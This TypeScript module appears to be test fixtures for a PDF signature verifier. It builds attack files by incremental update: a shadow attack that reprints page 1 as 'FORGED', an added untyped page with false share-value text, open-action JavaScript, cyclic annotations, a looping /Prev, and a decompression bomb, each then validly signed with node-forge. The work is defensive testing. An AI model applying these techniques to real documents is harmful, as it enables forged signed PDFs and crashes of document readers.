// Attack files built byte by byte on a FINAL: incremental updates written here as a forger would write them
// (a new catalog, an untyped page, a shadowed object, cyclic annotations, a looping /Prev, a stream that
// inflates to hundreds of megabytes), and signatures made here (node-forge PKCS#7, as @signpdf makes them) so
// a file can carry any number of them or a certificate of any size. Each is then signed validly where the
// attack needs it, so only the attack itself is a reason to refuse it.
import { deflateSync } from 'node:zlib';
import forge from 'node-forge';
import { selfSignedCertificate } from './pkcs12.js';

/** What the FINAL's own trailer and objects say: its root, page tree, first page, form and size. */
export function anatomy(pdf: Buffer) {
  const text = pdf.toString('latin1');
  const trailer = text.slice(text.lastIndexOf('trailer'));
  const num = (re: RegExp, s = text) => Number(re.exec(s)![1]);
  const root = num(/\/Root (\d+) 0 R/, trailer);
  const catalog = objectBody(text, root);
  const pages = num(/\/Pages (\d+) 0 R/, catalog);
  const kids = /\/Kids \[([^\]]*)\]/.exec(objectBody(text, pages))![1]!.trim();
  const firstPage = num(/(\d+) 0 R/, kids);
  const page = objectBody(text, firstPage);
  const form = num(/\/AcroForm (\d+) 0 R/, catalog);
  return {
    root,
    catalog,
    pages,
    kids,
    pageCount: num(/\/Count (\d+)/, objectBody(text, pages)),
    firstPage,
    page,
    contents: num(/\/Contents (\d+) 0 R/, page),
    resources: num(/\/Resources (\d+) 0 R/, page),
    form,
    formBody: objectBody(text, form),
    size: num(/\/Size (\d+)/, trailer),
    info: num(/\/Info (\d+) 0 R/, trailer),
    startxref: num(/startxref\s+(\d+)\s+%%EOF\s*$/),
  };
}

/** The dictionary (or value) of object `n` as the file last writes it, without `endobj`. */
export function objectBody(text: string, n: number): string {
  const re = new RegExp(`(?:^|[\\r\\n ])${n} 0 obj\\s*([\\s\\S]*?)\\s*endobj`, 'g');
  let last: string | undefined;
  for (let m = re.exec(text); m; m = re.exec(text)) last = m[1];
  if (last === undefined) throw new Error(`no object ${n}`);
  return last;
}

export interface NewObject {
  n: number;
  /** The object's body (between `N 0 obj` and `endobj`), bytes for streams. */
  body: string | Buffer;
}

/**
 * An incremental update: the objects, a classic cross-reference table naming each at its offset (or at
 * `pointAt[n]`, for a forger's entry), and a trailer with the FINAL's /Root, /Info and /Prev unless told otherwise.
 */
export function appendRevision(
  pdf: Buffer,
  objects: NewObject[],
  options: { root?: number; prev?: number | 'self'; size?: number; pointAt?: Record<number, number> } = {},
): Buffer {
  const a = anatomy(pdf);
  const parts: Buffer[] = [pdf];
  let at = pdf.length;
  const offsets = new Map<number, number>();
  const push = (b: Buffer) => {
    parts.push(b);
    at += b.length;
  };
  push(Buffer.from('\n', 'latin1'));
  for (const o of objects) {
    offsets.set(o.n, at);
    push(
      Buffer.concat([Buffer.from(`${o.n} 0 obj\n`, 'latin1'), asBytes(o.body), Buffer.from('\nendobj\n', 'latin1')]),
    );
  }
  for (const [n, offset] of Object.entries(options.pointAt ?? {})) offsets.set(Number(n), offset);
  const xrefAt = at;
  const rows = [...offsets.entries()]
    .sort(([x], [y]) => x - y)
    .map(([n, offset]) => `${n} 1\n${String(offset).padStart(10, '0')} 00000 n \n`)
    .join('');
  const size = options.size ?? Math.max(a.size, ...[...offsets.keys()].map((n) => n + 1));
  const prev = options.prev === 'self' ? xrefAt : (options.prev ?? a.startxref);
  push(
    Buffer.from(
      `xref\n0 1\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root ${options.root ?? a.root} 0 R /Info ${a.info} 0 R /Prev ${prev} >>\nstartxref\n${xrefAt}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}

const asBytes = (b: string | Buffer) => (typeof b === 'string' ? Buffer.from(b, 'latin1') : b);

export const stream = (dict: string, data: Buffer | string) =>
  Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${asBytes(data).length} >>\nstream\n`, 'latin1'),
    asBytes(data),
    Buffer.from('\nendstream', 'latin1'),
  ]);

const FORGED_TEXT = 'BT /Fh 24 Tf 72 720 Td (Value per share: Rs 1) Tj ET';
const helvetica = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A new catalog and page tree that add a page after the last, whose dictionary has no /Type. */
export function untypedPage(pdf: Buffer): Buffer {
  const a = anatomy(pdf);
  const [catalog, tree, page, content, font] = [a.size, a.size + 1, a.size + 2, a.size + 3, a.size + 4];
  return appendRevision(
    pdf,
    [
      { n: catalog, body: a.catalog.replace(/\/Pages \d+ 0 R/, `/Pages ${tree} 0 R`) },
      { n: tree, body: `<< /Type /Pages /Kids [${a.kids} ${page} 0 R] /Count ${a.pageCount + 1} >>` },
      {
        n: page,
        body: `<< /Parent ${tree} 0 R /MediaBox [0 0 595.28 841.89] /Contents ${content} 0 R /Resources << /Font << /Fh ${font} 0 R >> >> >>`,
      },
      { n: content, body: stream('', FORGED_TEXT) },
      { n: font, body: helvetica },
    ],
    { root: catalog },
  );
}

/** A new catalog, otherwise the FINAL's, that runs JavaScript when the file opens. */
export function newCatalogWithOpenAction(pdf: Buffer): Buffer {
  const a = anatomy(pdf);
  const [catalog, action] = [a.size, a.size + 1];
  return appendRevision(
    pdf,
    [
      { n: catalog, body: a.catalog.replace(/>>\s*$/, `/OpenAction ${action} 0 R\n>>`) },
      { n: action, body: "<< /S /JavaScript /JS (app.alert('This report is genuine');) >>" },
    ],
    { root: catalog },
  );
}

/**
 * The shadow attack: a new object whose stream holds, as bytes, a redefinition of the first page's content and
 * resources; the update's cross-reference points those two objects inside that stream. A scanner of `N G obj`
 * headers skips the stream; a reader follows the entries and prints FORGED on page 1.
 */
export function shadowedPage(pdf: Buffer): Buffer {
  const a = anatomy(pdf);
  const carrier = a.size;
  const font = a.size + 1;
  const forgedContent = `${a.contents} 0 obj\n${stream('', 'BT /Fh 36 Tf 72 720 Td (FORGED) Tj ET').toString('latin1')}\nendobj\n`;
  const forgedResources = `${a.resources} 0 obj\n<< /Font << /Fh ${font} 0 R >> >>\nendobj\n`;
  const hidden = `% padding\n${forgedContent}${forgedResources}`;
  const carrierObject = { n: carrier, body: stream('', hidden) };
  // Where the carrier's stream data begins in the file: after the FINAL, a newline, its header and dictionary.
  const header = `${carrier} 0 obj\n`;
  const dictAndStream = `<<  /Length ${hidden.length} >>\nstream\n`;
  const dataAt = pdf.length + 1 + header.length + dictAndStream.length;
  return appendRevision(pdf, [carrierObject, { n: font, body: helvetica }], {
    pointAt: {
      [a.contents]: dataAt + hidden.indexOf(forgedContent),
      [a.resources]: dataAt + hidden.indexOf(forgedResources),
    },
  });
}

/** The first page rewritten with an /Annots array that contains itself. */
export function cyclicAnnots(pdf: Buffer): Buffer {
  const a = anatomy(pdf);
  const annots = a.size;
  return appendRevision(pdf, [
    { n: a.firstPage, body: a.page.replace(/>>\s*$/, `/Annots ${annots} 0 R\n>>`) },
    { n: annots, body: `[${annots} 0 R]` },
  ]);
}

/** An update whose trailer's /Prev points at its own cross-reference table. */
export function prevLoop(pdf: Buffer): Buffer {
  const a = anatomy(pdf);
  return appendRevision(pdf, [{ n: a.size, body: '<< /Note (nothing) >>' }], { prev: 'self' });
}

/**
 * An object stream that inflates to `megabytes` MiB, and a cross-reference stream with an entry inside it (so a
 * reader must inflate it to find that object).
 */
export function streamBomb(pdf: Buffer, megabytes: number): Buffer {
  const a = anatomy(pdf);
  const [bomb, inside] = [a.size, a.size + 2];
  const header = `${inside} 0 `;
  const data = Buffer.alloc(megabytes * 1024 * 1024, 0x20);
  data.write(header, 0, 'latin1');
  data.write('<< /Inside true >>', header.length, 'latin1');
  const deflated = deflateSync(data, { level: 9 });
  return compressedRevision(pdf, { stm: bomb, packed: [inside], first: header.length, deflated, root: a.root });
}

/**
 * An incremental update as PDF 1.5 writers make one: the objects `packed` compressed in a new object stream `stm`
 * (in that order; `deflated` its whole data, `first` the offset of the first object in it), and a cross-reference
 * stream (/W [1 4 2], object `stm + 1`) naming each inside that stream.
 */
export function compressedRevision(
  pdf: Buffer,
  o: { stm: number; packed: number[]; first: number; deflated: Buffer; root: number },
): Buffer {
  const startxref = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(pdf.toString('latin1'))![1]);
  const xref = o.stm + 1;
  const stmObject = Buffer.concat([
    Buffer.from(
      `${o.stm} 0 obj\n<< /Type /ObjStm /N ${o.packed.length} /First ${o.first} /Filter /FlateDecode /Length ${o.deflated.length} >>\nstream\n`,
      'latin1',
    ),
    o.deflated,
    Buffer.from('\nendstream\nendobj\n', 'latin1'),
  ]);
  const stmAt = pdf.length + 1;
  const xrefAt = stmAt + stmObject.length;
  const row = (type: number, field2: number, field3: number) => {
    const b = Buffer.alloc(7);
    b[0] = type;
    b.writeUInt32BE(field2, 1);
    b.writeUInt16BE(field3, 5);
    return b;
  };
  // Rows in object-number order: the packed objects (each at its index in the stream), the stream, the
  // cross-reference stream.
  const entries = new Map([
    ...o.packed.map((n, i) => [n, row(2, o.stm, i)] as const),
    [o.stm, row(1, stmAt, 0)],
    [xref, row(1, xrefAt, 0)],
  ]);
  const numbers = [...entries.keys()].sort((x, y) => x - y);
  const rows = Buffer.concat(numbers.map((n) => entries.get(n)!));
  const index = numbers.map((n) => `${n} 1`).join(' ');
  const xrefObject = Buffer.concat([
    Buffer.from(
      `${xref} 0 obj\n<< /Type /XRef /Size ${xref + 1} /W [1 4 2] /Index [${index}] /Root ${o.root} 0 R /Prev ${startxref} /Length ${rows.length} >>\nstream\n`,
      'latin1',
    ),
    rows,
    Buffer.from('\nendstream\nendobj\n', 'latin1'),
  ]);
  return Buffer.concat([
    pdf,
    Buffer.from('\n', 'latin1'),
    stmObject,
    xrefObject,
    Buffer.from(`startxref\n${xrefAt}\n%%EOF\n`, 'latin1'),
  ]);
}

export interface TestSigner {
  key: forge.pki.rsa.PrivateKey;
  cert: forge.pki.Certificate;
}

/** A self-signed signing certificate whose common name is `commonName` (of any length), valid for a year. */
export function testSigner(commonName: string): TestSigner {
  const day = 86_400_000;
  return selfSignedCertificate({
    commonName,
    notBefore: new Date(Date.now() - day),
    notAfter: new Date(Date.now() + 365 * day),
  });
}

function cms(signer: TestSigner, data: Buffer, signingTime: Date): Buffer {
  const p7 = forge.pkcs7.createSignedData();
  p7.content = forge.util.createBuffer(data.toString('binary'));
  p7.addCertificate(signer.cert);
  p7.addSigner({
    key: signer.key,
    certificate: signer.cert,
    digestAlgorithm: forge.pki.oids.sha256!,
    authenticatedAttributes: [
      { type: forge.pki.oids.contentType!, value: forge.pki.oids.data },
      { type: forge.pki.oids.messageDigest! },
      { type: forge.pki.oids.signingTime!, value: signingTime as unknown as string },
    ],
  });
  p7.sign({ detached: true });
  return Buffer.from(forge.asn1.toDer(p7.toAsn1()).getBytes(), 'binary');
}

/**
 * An incremental update adding one signature, as signing software writes it: a signature field and widget
 * (invisible, on the first page, in the form's field list), its value with a CMS over the byte range.
 */
export function addSignature(pdf: Buffer, signer: TestSigner): Buffer {
  const a = anatomy(pdf);
  const fields = /\/Fields \[([^\]]*)\]/.exec(a.formBody)![1]!.trim();
  const [widget, value] = [a.size, a.size + 1];
  const signingTime = new Date();
  const reserve = (cms(signer, Buffer.from('x'), signingTime).length + 256) * 2;
  const placeholder = `<${'0'.repeat(reserve)}>`;
  const rangeSlot = '/ByteRange [0 0000000000 0000000000 0000000000]';
  const draft = appendRevision(pdf, [
    { n: a.form, body: a.formBody.replace(/\/Fields \[[^\]]*\]/, `/Fields [${fields} ${widget} 0 R]`) },
    {
      n: widget,
      body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature${widget}) /Rect [0 0 0 0] /F 132 /P ${a.firstPage} 0 R /V ${value} 0 R >>`,
    },
    {
      n: value,
      body: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached ${rangeSlot} /Contents ${placeholder} >>`,
    },
  ]);
  const text = draft.toString('latin1');
  const gapStart = text.lastIndexOf(placeholder);
  const gapEnd = gapStart + placeholder.length;
  const range = [0, gapStart, gapEnd, draft.length - gapEnd];
  const slotAt = text.lastIndexOf(rangeSlot);
  const filled = `/ByteRange [0 ${range
    .slice(1)
    .map((x) => String(x).padStart(10, '0'))
    .join(' ')}]`;
  draft.write(filled, slotAt, 'latin1');
  const signed = cms(signer, Buffer.concat([draft.subarray(0, gapStart), draft.subarray(gapEnd)]), signingTime);
  draft.write(signed.toString('hex').padEnd(reserve, '0'), gapStart + 1, 'latin1');
  return draft;
}
